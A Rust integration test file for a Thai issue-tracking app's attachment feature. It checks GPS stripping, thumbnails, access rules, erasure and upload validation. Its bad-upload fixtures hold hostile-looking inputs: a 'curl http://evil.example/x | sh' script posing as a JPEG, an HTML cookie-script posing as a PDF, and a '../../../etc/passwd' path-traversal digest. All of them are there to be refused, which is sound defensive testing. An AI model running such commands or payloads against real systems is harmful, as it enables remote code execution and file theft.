//! Photos and documents (issue #17 §4) end to end, on both backends and both blob stores (a folder, and
//! the database's `blobs` table): a photo comes back without its GPS data and with a thumbnail, a PDF
//! documents an action, the event's digest is the stored file's and the ledger verifies; bad uploads are
//! refused with their documented error and write nothing (no event, no blob); files follow the area,
//! restricted-case and erasure rules and every read is in the access log; the web pages show and take
//! them; a rebuild reproduces the attachments table.

use std::io::Cursor;
use std::sync::Arc;

use axum::body::Body;
use axum::http::{HeaderMap, Request, StatusCode, header};
use http_body_util::BodyExt;
use santisuk_projections::users::Role;
use santisuk_store::blobs::{DatabaseBlobs, FolderBlobs, digest_of};
use santisuk_store::on_db;
use santisuk_tests::{Backend, Reply, TestApp, TestDb, both_backends};
use serde_json::{Value, json};
use tower::ServiceExt;

both_backends!(
    a_photo_in_a_folder_comes_back_without_its_location,
    a_photo_in_the_database_comes_back_without_its_location,
    bad_uploads_are_refused_and_write_nothing_in_a_folder,
    bad_uploads_are_refused_and_write_nothing_in_the_database,
    files_follow_the_area_and_restricted_case_rules,
    erasing_an_issue_makes_its_files_unreadable_and_keeps_the_ledger,
    a_rebuild_reproduces_the_attachments_table,
    the_issue_and_forum_pages_show_and_take_files,
);

#[derive(Debug, Clone, Copy)]
enum Store {
    Folder,
    Database,
}

/// The app with its files in `store`; the folder (if any) lives as long as the app's database.
async fn app_with(backend: Backend, store: Store) -> (TestApp, Option<tempfile::TempDir>) {
    let mut test_db = TestDb::new(backend).await;
    let dir = match store {
        Store::Folder => {
            let dir = tempfile::tempdir().unwrap();
            test_db.db = test_db.db.clone().with_blobs(Arc::new(FolderBlobs::new(dir.path().join("blobs"))));
            Some(dir)
        }
        Store::Database => {
            test_db.db = test_db.db.clone().with_blobs(Arc::new(DatabaseBlobs::new(test_db.db.pool().clone())));
            None
        }
    };
    let app = TestApp::on(Arc::new(test_db)).await;
    assert_eq!(
        app.db().blobs().kind(),
        match store {
            Store::Folder => "folder",
            Store::Database => "database",
        }
    );
    (app, dir)
}

// --- fixtures --------------------------------------------------------------------------------------------

const GPS: &[u8] = b"GPSLatitude 6.8696N 101.2501E";

/// A small JPEG whose EXIF block holds a GPS position (as a phone writes one), `w`×`h` pixels.
fn photo_with_gps(w: u32, h: u32) -> Vec<u8> {
    let image = image::RgbImage::from_fn(w, h, |x, y| image::Rgb([(x * 7) as u8, (y * 5) as u8, 90]));
    let mut out = Cursor::new(Vec::new());
    image.write_to(&mut out, image::ImageFormat::Jpeg).unwrap();
    let plain = out.into_inner();
    let mut exif = b"Exif\0\0MM\0\x2a\0\0\0\x08".to_vec();
    exif.extend_from_slice(&[0, 1, 0x88, 0x25, 0, 4, 0, 0, 0, 1, 0, 0, 0, 0x1a, 0, 0, 0, 0]);
    exif.extend_from_slice(GPS);
    let mut with = plain[..2].to_vec();
    with.extend_from_slice(&[0xFF, 0xE1]);
    with.extend_from_slice(&((exif.len() + 2) as u16).to_be_bytes());
    with.extend_from_slice(&exif);
    with.extend_from_slice(&plain[2..]);
    with
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n".to_vec()
}

/// One part of a multipart body.
struct Part<'a> {
    name: &'a str,
    file_name: Option<&'a str>,
    content_type: Option<&'a str>,
    bytes: &'a [u8],
}

fn file<'a>(name: &'static str, content_type: &'static str, bytes: &'a [u8]) -> Part<'a> {
    Part { name: "file", file_name: Some(name), content_type: Some(content_type), bytes }
}

fn field<'a>(name: &'a str, value: &'a str) -> Part<'a> {
    Part { name, file_name: None, content_type: None, bytes: value.as_bytes() }
}

const BOUNDARY: &str = "santisuk-test-boundary-7d0c";

fn multipart(parts: &[Part]) -> Vec<u8> {
    let mut body = Vec::new();
    for p in parts {
        body.extend_from_slice(format!("--{BOUNDARY}\r\n").as_bytes());
        let mut disposition = format!("Content-Disposition: form-data; name=\"{}\"", p.name);
        if let Some(f) = p.file_name {
            disposition.push_str(&format!("; filename=\"{f}\""));
        }
        body.extend_from_slice(disposition.as_bytes());
        body.extend_from_slice(b"\r\n");
        if let Some(t) = p.content_type {
            body.extend_from_slice(format!("Content-Type: {t}\r\n").as_bytes());
        }
        body.extend_from_slice(b"\r\n");
        body.extend_from_slice(p.bytes);
        body.extend_from_slice(b"\r\n");
    }
    body.extend_from_slice(format!("--{BOUNDARY}--\r\n").as_bytes());
    body
}

async fn send_raw(
    app: &TestApp,
    path: &str,
    token: Option<&str>,
    content_type: &str,
    body: Vec<u8>,
    cookie: Option<String>,
) -> (StatusCode, HeaderMap, Vec<u8>) {
    let mut req = Request::builder().method("POST").uri(path).header(header::CONTENT_TYPE, content_type);
    if let Some(t) = token {
        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
    }
    if let Some(c) = cookie {
        req = req.header(header::COOKIE, c);
    }
    let resp = app.router.clone().oneshot(req.body(Body::from(body)).unwrap()).await.unwrap();
    let (status, headers) = (resp.status(), resp.headers().clone());
    (status, headers, resp.into_body().collect().await.unwrap().to_bytes().to_vec())
}

async fn upload(app: &TestApp, token: Option<&str>, issue: &str, parts: &[Part<'_>]) -> Reply {
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");
    let path = format!("/api/issues/{issue}/attachments");
    let (status, headers, bytes) = send_raw(app, &path, token, &content_type, multipart(parts), None).await;
    Reply { status, body: serde_json::from_slice(&bytes).unwrap_or(Value::Null), headers }
}

/// A GET answered with bytes: status, headers, body.
async fn get_bytes(app: &TestApp, token: &str, path: &str) -> (StatusCode, HeaderMap, Vec<u8>) {
    let req = Request::builder().uri(path).header(header::AUTHORIZATION, format!("Bearer {token}"));
    let resp = app.router.clone().oneshot(req.body(Body::empty()).unwrap()).await.unwrap();
    let (status, headers) = (resp.status(), resp.headers().clone());
    (status, headers, resp.into_body().collect().await.unwrap().to_bytes().to_vec())
}

async fn blobs(app: &TestApp) -> Vec<String> {
    app.db().blobs().list().await.unwrap()
}

async fn access_actions(app: &TestApp) -> Vec<(String, String)> {
    let log = app.get("/api/audit/access-log?limit=1000", &app.auditor).await;
    assert_eq!(log.status, StatusCode::OK, "{:?}", log.body);
    log.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["action"].as_str().unwrap_or("").to_owned(), e["actor_role"].as_str().unwrap_or("").to_owned()))
        .collect()
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

// --- a photo and a document ------------------------------------------------------------------------------

async fn a_photo_in_a_folder_comes_back_without_its_location(backend: Backend) {
    a_photo_comes_back_without_its_location(backend, Store::Folder).await
}

async fn a_photo_in_the_database_comes_back_without_its_location(backend: Backend) {
    a_photo_comes_back_without_its_location(backend, Store::Database).await
}

async fn a_photo_comes_back_without_its_location(backend: Backend, store: Store) {
    let (app, _dir) = app_with(backend, store).await;
    let area = app.area("PTN-41").await;
    let id = app.raise(&area, "INF", "สะพานไม้ชำรุด").await;
    let photo = photo_with_gps(64, 48);
    assert!(contains(&photo, GPS));
    // The coordinator of the area attaches it from a phone (the browser names it and claims its type).
    let r = upload(&app, Some(&app.coordinator), &id, &[file("สะพาน-บ้านตะโละ.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let a = &r.body["attachment"];
    assert_eq!(a["media_type"], "image/jpeg");
    assert_eq!(a["name"], "สะพาน-บ้านตะโละ.jpg");
    assert_eq!(a["action"], Value::Null);
    assert_eq!(r.body["version"], 2);
    let sha = a["sha256"].as_str().unwrap().to_owned();
    assert_ne!(sha, digest_of(&photo), "the digest is that of the stripped file");
    // Read back: no GPS, no EXIF, the same pixels' size; the digest is the bytes'.
    let (status, headers, bytes) = get_bytes(&app, &app.staff, a["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "image/jpeg");
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert!(!contains(&bytes, GPS) && !contains(&bytes, b"Exif"), "the location is gone");
    assert_eq!(digest_of(&bytes), sha);
    assert_eq!(a["size"], bytes.len());
    let decoded = image::load_from_memory(&bytes).unwrap();
    assert_eq!((decoded.width(), decoded.height()), (64, 48));
    // The thumbnail is a JPEG of its own, also without metadata.
    let (status, headers, thumb) = get_bytes(&app, &app.auditor, a["thumbnail_url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(headers[header::CONTENT_TYPE], "image/jpeg");
    assert!(!contains(&thumb, GPS));
    assert!(image::load_from_memory(&thumb).is_ok());
    // A PDF documents the action recorded afterwards (sequence 4: raised, attached, assigned, addressed).
    let r = app.post(&format!("/api/issues/{id}/assign"), &app.staff, json!({"assignee": "อบต.ตะลุโบะ"})).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let r = app.post(&format!("/api/issues/{id}/address"), &app.staff, json!({"action": "ซ่อมสะพานแล้ว"})).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    let doc = pdf();
    let r =
        upload(&app, Some(&app.staff), &id, &[field("action", "4"), file("ใบเสร็จ.pdf", "application/pdf", &doc)]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    assert_eq!(r.body["attachment"]["action"], 4);
    assert!(r.body["attachment"]["thumbnail_url"].is_string(), "a document has the page icon");
    assert_eq!(r.body["attachment"]["sha256"], digest_of(&doc), "a PDF is stored as sent");
    let (status, headers, bytes) = get_bytes(&app, &app.staff, r.body["attachment"]["url"].as_str().unwrap()).await;
    assert_eq!((status, bytes), (StatusCode::OK, doc.clone()));
    assert!(headers[header::CONTENT_DISPOSITION].to_str().unwrap().starts_with("attachment;"));
    // Listed in order; four blobs stored (photo, its thumbnail, the PDF, the page icon).
    let list = app.get(&format!("/api/issues/{id}/attachments"), &app.auditor).await;
    assert_eq!(list.status, StatusCode::OK, "{:?}", list.body);
    let items = list.body["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["sha256"], sha.as_str());
    assert_eq!(blobs(&app).await.len(), 4);
    // The history holds the digests: the ledger covers the files.
    let h = app.get(&format!("/api/issues/{id}/history"), &app.auditor).await;
    let attached: Vec<&Value> =
        h.body["items"].as_array().unwrap().iter().filter(|e| e["event_type"] == "AttachmentAdded").collect();
    assert_eq!(attached.len(), 2);
    assert_eq!(attached[0]["data"]["sha256"], sha.as_str());
    let verify = app.get("/api/audit/verify", &app.auditor).await;
    assert_eq!(verify.body["ok"], true, "{:?}", verify.body);
    // The file's name is free text: stored sealed, never in plain text.
    let stored: Vec<String> = on_db!(app.db(), p => sqlx::query_scalar(
        "SELECT CAST(payload AS TEXT) FROM events WHERE event_type = 'AttachmentAdded'").fetch_all(p).await.unwrap());
    assert!(stored.iter().all(|s| !s.contains("สะพาน-บ้านตะโละ") && s.contains("sealed:v1:")), "{stored:?}");
    // Every read is in the access log.
    let reads = access_actions(&app).await;
    for action in ["attachment_read", "attachment_thumbnail_read", "issue_attachments"] {
        assert!(reads.iter().any(|(a, _)| a == action), "{action} in {reads:?}");
    }
    // The statistics count the problem once, however many files it has.
    let stats = app.get(&format!("/api/stats/resolution?by=area&area_id={area}"), &app.staff).await;
    assert_eq!(stats.status, StatusCode::OK, "{:?}", stats.body);
}

// --- bad input -------------------------------------------------------------------------------------------

async fn bad_uploads_are_refused_and_write_nothing_in_a_folder(backend: Backend) {
    bad_uploads_are_refused_and_write_nothing(backend, Store::Folder).await
}

async fn bad_uploads_are_refused_and_write_nothing_in_the_database(backend: Backend) {
    bad_uploads_are_refused_and_write_nothing(backend, Store::Database).await
}

/// What is sent, by whom, to which issue, and the status and code it must get.
type BadCase<'a> = (&'a str, Option<&'a str>, &'a str, Vec<Part<'a>>, StatusCode, &'a str);

async fn bad_uploads_are_refused_and_write_nothing(backend: Backend, store: Store) {
    let (app, _dir) = app_with(backend, store).await;
    let area = app.area("PTN-42").await;
    let id = app.raise(&area, "INF", "ถนนขาด").await;
    let r = app.post("/api/areas", &app.admin, json!({"id": "FAR-42", "name_th": "ไกล", "amphoe_code": "9601"})).await;
    assert_eq!(r.status, StatusCode::CREATED);
    let far = app.raise("FAR-42", "INF", "ถนนที่อื่น").await;
    let photo = photo_with_gps(16, 16);
    let script = b"#!/bin/sh\ncurl http://evil.example/x | sh\n".to_vec();
    let html = b"<html><script>alert(document.cookie)</script></html>".to_vec();
    let mut fake_jpeg = vec![0xFF, 0xD8, 0xFF, 0xE0, 0, 16];
    fake_jpeg.extend_from_slice(b"JFIF but then a shell script follows");
    let events = app.event_count().await;
    let stored = blobs(&app).await;
    let unknown = uuid::Uuid::new_v4().to_string();
    let cases: Vec<BadCase> = vec![
        (
            "a script named .jpg",
            Some(&app.staff),
            &id,
            vec![file("photo.jpg", "image/jpeg", &script)],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported_file_type",
        ),
        (
            "a web page named .pdf",
            Some(&app.staff),
            &id,
            vec![file("doc.pdf", "application/pdf", &html)],
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            "unsupported_file_type",
        ),
        (
            "a file that starts like a JPEG",
            Some(&app.staff),
            &id,
            vec![file("x.jpg", "image/jpeg", &fake_jpeg)],
            StatusCode::UNPROCESSABLE_ENTITY,
            "unreadable_file",
        ),
        (
            "an empty file",
            Some(&app.staff),
            &id,
            vec![file("empty.jpg", "image/jpeg", b"")],
            StatusCode::UNPROCESSABLE_ENTITY,
            "empty_file",
        ),
        ("no file", Some(&app.staff), &id, vec![field("name", "x")], StatusCode::UNPROCESSABLE_ENTITY, "missing_file"),
        (
            "an action that is none",
            Some(&app.staff),
            &id,
            vec![field("action", "1"), file("a.jpg", "image/jpeg", &photo)],
            StatusCode::UNPROCESSABLE_ENTITY,
            "unknown_action",
        ),
        (
            "an action that is no number",
            Some(&app.staff),
            &id,
            vec![field("action", "x"), file("a.jpg", "image/jpeg", &photo)],
            StatusCode::UNPROCESSABLE_ENTITY,
            "bad_action",
        ),
        (
            "an unknown issue",
            Some(&app.staff),
            &unknown,
            vec![file("a.jpg", "image/jpeg", &photo)],
            StatusCode::NOT_FOUND,
            "issue_not_found",
        ),
        (
            "another area's issue, for a coordinator",
            Some(&app.coordinator),
            &far,
            vec![file("a.jpg", "image/jpeg", &photo)],
            StatusCode::NOT_FOUND,
            "issue_not_found",
        ),
        (
            "an auditor",
            Some(&app.auditor),
            &id,
            vec![file("a.jpg", "image/jpeg", &photo)],
            StatusCode::FORBIDDEN,
            "forbidden",
        ),
        ("no token", None, &id, vec![file("a.jpg", "image/jpeg", &photo)], StatusCode::UNAUTHORIZED, "unauthorized"),
    ];
    for (what, token, issue, parts, status, code) in cases {
        let r = upload(&app, token, issue, &parts).await;
        assert_eq!((r.status, r.code()), (status, code), "{what}: {:?}", r.body);
        assert_eq!(app.event_count().await, events, "{what} stored no event");
        assert_eq!(blobs(&app).await, stored, "{what} left no blob behind");
    }
    // Not multipart at all.
    let (status, _, body) = send_raw(
        &app,
        &format!("/api/issues/{id}/attachments"),
        Some(&app.staff),
        "application/json",
        b"{}".to_vec(),
        None,
    )
    .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{}", String::from_utf8_lossy(&body));
    // Over the configured limit: the file, and a body over the route's own limit.
    app.state.attachment_policy.set(1000, false);
    let r = upload(&app, Some(&app.staff), &id, &[file("big.jpg", "image/jpeg", &photo_with_gps(200, 200))]).await;
    assert_eq!((r.status, r.code()), (StatusCode::PAYLOAD_TOO_LARGE, "file_too_large"), "{:?}", r.body);
    app.state.attachment_policy.set(santisuk_app::attachments::DEFAULT_MAX_BYTES, false);
    let huge = vec![0x42u8; 11 * 1024 * 1024];
    let r = upload(&app, Some(&app.staff), &id, &[file("huge.jpg", "image/jpeg", &huge)]).await;
    assert_eq!((r.status, r.code()), (StatusCode::PAYLOAD_TOO_LARGE, "file_too_large"), "{:?}", r.body);
    assert_eq!(app.event_count().await, events, "oversized files stored no event");
    assert_eq!(blobs(&app).await, stored, "oversized files left no blob behind");
    // Other routes keep the 1 MiB limit.
    let big_json = json!({"action": "x".repeat(2 * 1024 * 1024)});
    let r = app.post(&format!("/api/issues/{id}/address"), &app.staff, big_json).await;
    assert_eq!(r.status, StatusCode::PAYLOAD_TOO_LARGE);
}

// --- who reads them --------------------------------------------------------------------------------------

async fn files_follow_the_area_and_restricted_case_rules(backend: Backend) {
    let (app, _dir) = app_with(backend, Store::Folder).await;
    let area = app.area("PTN-43").await;
    let r = app.post("/api/areas", &app.admin, json!({"id": "FAR-43", "name_th": "ไกล", "amphoe_code": "9601"})).await;
    assert_eq!(r.status, StatusCode::CREATED);
    let far = app.raise("FAR-43", "INF", "ถนนที่อื่น").await;
    let photo = photo_with_gps(20, 20);
    let r = upload(&app, Some(&app.staff), &far, &[file("far.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let far_url = r.body["attachment"]["url"].as_str().unwrap().to_owned();
    // A coordinator's own obstacle is worked by SBPAC's staff: its raiser follows it and attaches nothing.
    let home = format!("HOME-{}", app.suffix);
    let r = app
        .post(
            "/api/obstacles",
            &app.coordinator,
            json!({"area_id": home, "category": "OBS_TRANSPORT", "title": "รถเสีย"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let obstacle = r.body["id"].as_str().unwrap().to_owned();
    let before = app.event_count().await;
    let r = upload(&app, Some(&app.coordinator), &obstacle, &[file("o.jpg", "image/jpeg", &photo)]).await;
    assert_eq!((r.status, r.body["error"]["code"].as_str()), (StatusCode::FORBIDDEN, Some("obstacle_worked_by_staff")));
    assert_eq!(app.event_count().await, before, "nothing written");
    let r = upload(&app, Some(&app.staff), &obstacle, &[file("o.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(r.status, StatusCode::CREATED, "staff work it: {:?}", r.body);
    // Another area's files are, to a coordinator, files of no issue.
    for path in [format!("/api/issues/{far}/attachments"), far_url.clone(), format!("{far_url}/thumbnail")] {
        let (status, _, body) = get_bytes(&app, &app.coordinator, &path).await;
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(
            (status, body["error"]["code"].as_str().unwrap()),
            (StatusCode::NOT_FOUND, "issue_not_found"),
            "{path}"
        );
    }
    // A restricted case (raised by the admin): staff without the grant, and the area's coordinator, see no file.
    let r = app
        .post(
            "/api/issues",
            &app.admin,
            json!({"area_id": area, "category": "JUS", "title": "ถูกข่มขู่", "restricted": true}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let secret = r.body["id"].as_str().unwrap().to_owned();
    let r = upload(&app, Some(&app.admin), &secret, &[file("evidence.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let url = r.body["attachment"]["url"].as_str().unwrap().to_owned();
    for token in [&app.staff, &app.coordinator, &app.auditor] {
        for path in [format!("/api/issues/{secret}/attachments"), url.clone(), format!("{url}/thumbnail")] {
            assert_eq!(get_bytes(&app, token, &path).await.0, StatusCode::NOT_FOUND, "{path}");
        }
        let r = upload(&app, Some(token), &secret, &[file("x.jpg", "image/jpeg", &photo)]).await;
        assert!(matches!(r.status, StatusCode::NOT_FOUND | StatusCode::FORBIDDEN), "{:?}", r.body);
    }
    assert_eq!(get_bytes(&app, &app.admin, &url).await.0, StatusCode::OK);
    // A digest the issue has no file of, and one that is no digest.
    let other = digest_of(b"another file");
    for sha in [other.as_str(), "not-a-digest", "../../../etc/passwd"] {
        let path = format!("/api/issues/{far}/attachments/{sha}");
        let (status, _, _) = get_bytes(&app, &app.staff, &path).await;
        assert!(matches!(status, StatusCode::NOT_FOUND | StatusCode::BAD_REQUEST), "{sha}: {status}");
    }
    // Refused reads are not reads: only the admin's and the staff's successful ones are logged.
    let reads = access_actions(&app).await;
    assert!(
        reads.iter().all(|(a, role)| !a.starts_with("attachment") || role == "admin" || role == "staff"),
        "{reads:?}"
    );
}

// --- erasure ---------------------------------------------------------------------------------------------

async fn erasing_an_issue_makes_its_files_unreadable_and_keeps_the_ledger(backend: Backend) {
    let (app, _dir) = app_with(backend, Store::Folder).await;
    let area = app.area("PTN-44").await;
    let a = app.raise(&area, "INF", "บ้านผู้ร้อง").await;
    let b = app.raise(&area, "INF", "สะพานเดียวกัน").await;
    // Larger than a thumbnail, so the thumbnail is a file of its own.
    let photo = photo_with_gps(400, 300);
    let shared = upload(&app, Some(&app.staff), &a, &[file("บ้านนายสมชาย.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(shared.status, StatusCode::CREATED, "{:?}", shared.body);
    let own = upload(&app, Some(&app.staff), &a, &[file("สำเนาบัตร.pdf", "application/pdf", &pdf())]).await;
    assert_eq!(own.status, StatusCode::CREATED, "{:?}", own.body);
    // The same photo attached to another problem is one blob, referred to twice.
    let again = upload(&app, Some(&app.staff), &b, &[file("สะพาน.jpg", "image/jpeg", &photo)]).await;
    assert_eq!(again.body["attachment"]["sha256"], shared.body["attachment"]["sha256"]);
    assert_eq!(blobs(&app).await.len(), 4, "photo, thumbnail, PDF, page icon");
    let r = app.post("/api/privacy/erase", &app.admin, json!({"subject": a, "legal_basis": "PDPA s.33"})).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["issues"][0]["files_deleted"], 2, "the PDF and its icon only: the photo is still B's");
    // A's files answer 410, its list names them erased; B's photo still reads.
    for url in [shared.body["attachment"]["url"].as_str().unwrap(), own.body["attachment"]["url"].as_str().unwrap()] {
        let (status, _, body) = get_bytes(&app, &app.staff, url).await;
        let body: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!((status, body["error"]["code"].as_str().unwrap()), (StatusCode::GONE, "attachment_erased"), "{url}");
    }
    let list = app.get(&format!("/api/issues/{a}/attachments"), &app.staff).await;
    for item in list.body["items"].as_array().unwrap() {
        assert_eq!((&item["erased"], &item["name"]), (&json!(true), &json!(santisuk_domain::personal::ERASED)));
    }
    let (status, _, _) = get_bytes(&app, &app.staff, again.body["attachment"]["url"].as_str().unwrap()).await;
    assert_eq!(status, StatusCode::OK);
    let pdf_digest = own.body["attachment"]["sha256"].as_str().unwrap();
    assert!(!blobs(&app).await.iter().any(|d| d == pdf_digest), "the PDF is gone from the store");
    // Erasing B too removes the photo and its thumbnail: nothing is left.
    let r = app.post("/api/privacy/erase", &app.admin, json!({"subject": b, "legal_basis": "PDPA s.33"})).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    assert_eq!(r.body["issues"][0]["files_deleted"], 2);
    assert!(blobs(&app).await.is_empty());
    // The events keep their digests, and the ledger verifies.
    let h = app.get(&format!("/api/issues/{a}/history"), &app.auditor).await;
    assert!(h.body["items"].as_array().unwrap().iter().any(|e| e["data"]["sha256"] == pdf_digest));
    let verify = app.get("/api/audit/verify", &app.auditor).await;
    assert_eq!(verify.body["ok"], true, "{:?}", verify.body);
}

// --- rebuild ---------------------------------------------------------------------------------------------

async fn a_rebuild_reproduces_the_attachments_table(backend: Backend) {
    use santisuk_projections::read_model::ReadModel;
    use santisuk_projections::runner::Runner;
    let (app, _dir) = app_with(backend, Store::Database).await;
    let area = app.area("PTN-45").await;
    let a = app.raise(&area, "INF", "หนึ่ง").await;
    let b = app.raise(&area, "INF", "สอง").await;
    for (issue, n) in [(&a, 10), (&b, 12), (&a, 14)] {
        let r = upload(&app, Some(&app.staff), issue, &[file("p.jpg", "image/jpeg", &photo_with_gps(n, n))]).await;
        assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    }
    let r = app.post("/api/privacy/erase", &app.admin, json!({"subject": a, "legal_basis": "PDPA s.33"})).await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    santisuk_tests::settle(&app.state.runner, app.db()).await;
    let live = santisuk_projections::attachments::dump(app.db()).await.unwrap();
    assert_eq!(live.len(), 3);
    assert_eq!(live.iter().filter(|r| r.erased).count(), 2);
    Runner::new(app.db().clone(), ReadModel::default()).rebuild().await.unwrap();
    assert_eq!(santisuk_projections::attachments::dump(app.db()).await.unwrap(), live);
}

// --- the web app -----------------------------------------------------------------------------------------

async fn the_issue_and_forum_pages_show_and_take_files(backend: Backend) {
    let (app, _dir) = app_with(backend, Store::Folder).await;
    let area = app.area("PTN-46").await;
    let r = app
        .post("/api/forums", &app.staff, json!({"area_id": area, "held_on": "2026-11-20", "title": "เวทีบ้านตะโละ"}))
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let forum = r.body["id"].as_str().unwrap().to_owned();
    let r = app
        .post(
            "/api/issues",
            &app.staff,
            json!({"area_id": area, "category": "INF", "title": "สะพานพัง", "forum_id": forum}),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{:?}", r.body);
    let id = r.body["id"].as_str().unwrap().to_owned();
    let mut web = app.web_as(Role::Coordinator).await;
    // The forum page offers the phone's camera under each problem, in Thai.
    let page = web.get(&format!("/forums/{forum}")).await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.body.contains(r#"accept="image/*,application/pdf" capture="environment""#), "{}", page.body);
    assert!(page.body.contains("แนบรูปภาพหรือเอกสาร"));
    let csrf = page.csrf();
    // Posting the photo from the forum page goes back to it.
    let cookie: Vec<String> = web.cookies.iter().map(|(k, v)| format!("{k}={v}")).collect();
    let body = multipart(&[
        field("_csrf", &csrf),
        field("back", &format!("/forums/{forum}")),
        file("IMG_0001.jpg", "image/jpeg", &photo_with_gps(30, 20)),
    ]);
    let content_type = format!("multipart/form-data; boundary={BOUNDARY}");
    let path = format!("/issues/{id}/attachments");
    let (status, headers, _) = send_raw(&app, &path, None, &content_type, body, Some(cookie.join("; "))).await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    assert_eq!(headers[header::LOCATION], format!("/forums/{forum}").as_str());
    let page = web.get(&format!("/forums/{forum}")).await;
    assert!(page.body.contains("/thumbnail\""), "the forum page shows the thumbnail: {}", page.body);
    // The issue page lists it with its name; the thumbnail reads with the session.
    let page = web.get(&format!("/issues/{id}")).await;
    assert!(page.body.contains("รูปภาพและเอกสาร") && page.body.contains("IMG_0001.jpg"), "{}", page.body);
    let start = page.body.find(&format!("src=\"/issues/{id}/attachments/")).unwrap() + 5;
    let thumb = page.body[start..].split('"').next().unwrap().to_owned();
    assert!(thumb.ends_with("/thumbnail"), "{thumb}");
    let t = web.get(&thumb).await;
    assert_eq!(t.status, StatusCode::OK);
    // A wrong CSRF token is refused, and writes nothing; a disguised file shows the Thai reason.
    let events = app.event_count().await;
    let body = multipart(&[field("_csrf", "wrong"), file("a.jpg", "image/jpeg", &photo_with_gps(8, 8))]);
    let (status, _, _) = send_raw(&app, &path, None, &content_type, body, Some(cookie.join("; "))).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let body = multipart(&[field("_csrf", &csrf), file("a.jpg", "image/jpeg", b"#!/bin/sh\necho hi\n")]);
    let (status, _, page) = send_raw(&app, &path, None, &content_type, body, Some(cookie.join("; "))).await;
    assert_eq!(status, StatusCode::UNSUPPORTED_MEDIA_TYPE);
    assert!(String::from_utf8_lossy(&page).contains("รับเฉพาะรูปถ่าย"), "{}", String::from_utf8_lossy(&page));
    assert_eq!(app.event_count().await, events);
    // An auditor's pages show the files but no upload form.
    let mut auditor = app.web_as(Role::Auditor).await;
    let page = auditor.get(&format!("/issues/{id}")).await;
    assert!(page.body.contains("/thumbnail") && !page.body.contains("capture=\"environment\""));
}
